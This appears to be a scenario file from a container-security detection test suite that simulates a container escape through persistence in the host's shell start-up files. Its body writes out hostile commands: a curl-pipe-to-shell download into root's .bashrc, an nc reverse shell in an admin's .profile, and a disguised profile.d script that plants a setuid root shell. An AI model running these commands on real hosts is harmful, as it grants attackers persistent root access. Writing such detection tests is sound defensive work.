# category: container-escape
# technique: T1546.004
# art: yes
# expect: host-mount-sensitive-write login-script-modified
# opts: --no-nnp --cap CAP_DAC_OVERRIDE --cap CAP_CHOWN --bind ../../hostroot:/host
# layer: mkdir -p ../../hostroot/root ../../hostroot/home/admin ../../hostroot/etc/profile.d && printf 'alias ll="ls -l"\n' >../../hostroot/root/.bashrc && printf 'PATH=$PATH:/usr/local/bin\n' >../../hostroot/home/admin/.profile && chown -R 1000:1000 ../../hostroot/home/admin
# desc: a pod with the node's / mounted (hostPath; here a scratch root directory), without chroot and with the runtime's usual CAP_DAC_OVERRIDE, plants commands in the host's shell start-up files: root's .bashrc, an admin's .profile and a new /etc/profile.d script, to run the next time someone logs in to the node
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
echo 'curl -s http://192.0.2.2/stage.sh | sh >/dev/null 2>&1 &' >>/host/root/.bashrc
echo '(nohup sh -c "nc 192.0.2.2 4444 -e /bin/sh" >/dev/null 2>&1 &)' >>/host/home/admin/.profile
printf '#!/bin/sh\n[ "$(id -u)" = 0 ] && cp /bin/sh /tmp/.sh && chmod 4755 /tmp/.sh\n' >/host/etc/profile.d/zz-update-check.sh
chmod 644 /host/etc/profile.d/zz-update-check.sh
tail -n 2 /host/root/.bashrc /host/home/admin/.profile /host/etc/profile.d/zz-update-check.sh
